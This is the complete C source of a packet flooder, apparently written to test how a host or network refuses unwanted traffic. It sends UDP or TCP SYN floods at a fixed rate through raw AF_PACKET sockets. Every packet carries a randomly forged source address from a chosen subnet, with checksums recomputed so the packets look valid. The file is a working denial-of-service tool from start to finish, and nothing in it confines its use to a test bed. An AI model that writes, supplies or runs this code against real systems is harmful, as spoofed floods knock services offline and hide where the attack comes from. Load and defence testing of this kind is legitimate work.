/* Packets with forged source addresses, at a steady rate: what a network sends that is to be
 * refused.
 *
 *   flood udp|syn INTERFACE MAC NETWORK BITS ADDRESS PORT RATE SECONDS
 *
 * MAC: of the next host. NETWORK/BITS: the sources, at random. Prints a line of JSON at the end, or
 * when it gets SIGTERM. It sends whole frames (AF_PACKET), as routing and a socket for each source
 * would cost this machine more than the packets cost the host that gets them. */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { BATCH = 64, PAYLOAD = 64, TICK_NS = 1000000 };

static const double LATE_S = 0.1; /* a pace that is later than this skips packets */

struct packet {
    struct ether_header ether;
    struct iphdr ip;
    union {
        struct udphdr udp;
        struct tcphdr tcp;
    };
    char payload[PAYLOAD];
} __attribute__((packed));

static struct packet packets[BATCH];
static struct iovec parts[BATCH];
static struct mmsghdr heads[BATCH];
static volatile sig_atomic_t stopped;

static void stop(int number)
{
    (void)number;
    stopped = 1;
}

static _Noreturn void give_up(const char *what)
{
    fprintf(stderr, "flood: %s: %s\n", what, strerror(errno));
    exit(1);
}

static uint32_t chance(void)
{
    static uint64_t state = 0x9e3779b97f4a7c15;
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return (uint32_t)(state >> 32);
}

static uint32_t sum(const void *data, size_t length, uint32_t total)
{
    const uint8_t *at = data;
    for (size_t i = 0; i + 1 < length; i += 2)
        total += (uint32_t)at[i] << 8 | at[i + 1];
    return total;
}

static uint16_t folded(uint32_t total)
{
    while (total >> 16)
        total = (total & 0xffff) + (total >> 16);
    return htons((uint16_t)~total);
}

/* Another source address, source port and sequence number. A UDP checksum of 0 means none. */
static void renew(struct packet *p, bool syn, uint32_t network, uint32_t host_mask)
{
    const uint16_t port = htons((uint16_t)(1024 + chance() % 64000));
    p->ip.saddr = htonl(network | (chance() & host_mask));
    p->ip.check = 0;
    p->ip.check = folded(sum(&p->ip, sizeof p->ip, 0));
    if (!syn) {
        p->udp.uh_sport = port;
        return;
    }
    p->tcp.th_sport = port;
    p->tcp.th_seq = chance();
    p->tcp.th_sum = 0;
    const uint32_t pseudo = sum(&p->ip.saddr, 8, IPPROTO_TCP + sizeof p->tcp);
    p->tcp.th_sum = folded(sum(&p->tcp, sizeof p->tcp, pseudo));
}

/* Fills in what is the same in all packets. Returns the length of a frame. */
static size_t prepare(struct packet *p, bool syn, const char *mac, const char *to, uint16_t port)
{
    const size_t body = syn ? sizeof p->tcp : sizeof p->udp + PAYLOAD;
    unsigned m[ETH_ALEN];
    if (sscanf(mac, "%x:%x:%x:%x:%x:%x", m, m + 1, m + 2, m + 3, m + 4, m + 5) != ETH_ALEN)
        give_up("MAC");
    for (int i = 0; i < ETH_ALEN; i++)
        p->ether.ether_dhost[i] = (uint8_t)m[i];
    p->ether.ether_shost[0] = 2;
    p->ether.ether_type = htons(ETHERTYPE_IP);
    p->ip = (struct iphdr){.version = 4,
                           .ihl = 5,
                           .ttl = 64,
                           .protocol = syn ? IPPROTO_TCP : IPPROTO_UDP,
                           .tot_len = htons((uint16_t)(sizeof p->ip + body))};
    if (inet_pton(AF_INET, to, &p->ip.daddr) != 1)
        give_up("ADDRESS");
    if (syn)
        p->tcp = (struct tcphdr){
            .th_dport = htons(port), .th_off = 5, .th_flags = TH_SYN, .th_win = 65535};
    else
        p->udp = (struct udphdr){.uh_dport = htons(port), .uh_ulen = htons((uint16_t)body)};
    return sizeof p->ether + sizeof p->ip + body;
}

static double now_s(void)
{
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

static int opened(const char *interface)
{
    const int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
    const struct sockaddr_ll at = {.sll_family = AF_PACKET,
                                   .sll_ifindex = (int)if_nametoindex(interface)};
    if (fd < 0 || !at.sll_ifindex || bind(fd, (const struct sockaddr *)&at, sizeof at))
        give_up(interface);
    return fd;
}

int main(int argc, char **argv)
{
    if (argc != 10) {
        fprintf(stderr,
                "usage: flood udp|syn INTERFACE MAC NETWORK BITS ADDRESS PORT RATE SECONDS\n");
        return 2;
    }
    const bool syn = !strcmp(argv[1], "syn");
    const int fd = opened(argv[2]), bits = atoi(argv[5]);
    const uint32_t host_mask = bits > 0 && bits < 32 ? UINT32_MAX >> bits : 0;
    const uint32_t network = ntohl(inet_addr(argv[4])) & ~host_mask;
    const double rate = atof(argv[8]), seconds = atof(argv[9]);
    for (int i = 0; i < BATCH; i++) {
        parts[i].iov_base = &packets[i];
        parts[i].iov_len = prepare(&packets[i], syn, argv[3], argv[6], (uint16_t)atoi(argv[7]));
        heads[i].msg_hdr = (struct msghdr){.msg_iov = &parts[i], .msg_iovlen = 1};
    }
    signal(SIGTERM, stop);
    (void)!nice(-20); /* why: a network does not wait for the processor of who gets its packets */
    unsigned long long sent = 0, failed = 0;
    const double begin = now_s();
    double since = begin, now = begin;
    for (; !stopped && now - begin < seconds; now = now_s()) {
        if (now - since > LATE_S)
            since = now - LATE_S;
        unsigned due = (unsigned)((now - since) * rate);
        since += due / rate;
        while (due && !stopped) {
            const unsigned count = due < BATCH ? due : BATCH;
            for (unsigned i = 0; i < count; i++)
                renew(&packets[i], syn, network, host_mask);
            const int done = sendmmsg(fd, heads, count, 0);
            sent += done > 0 ? (unsigned)done : 0;
            failed += done > 0 ? 0 : 1;
            due -= done > 0 ? (unsigned)done : count;
        }
        nanosleep(&(struct timespec){.tv_nsec = TICK_NS}, NULL);
    }
    printf("{\"sent\": %llu, \"failed\": %llu, \"seconds\": %.4f}\n", sent, failed, now - begin);
    return 0;
}
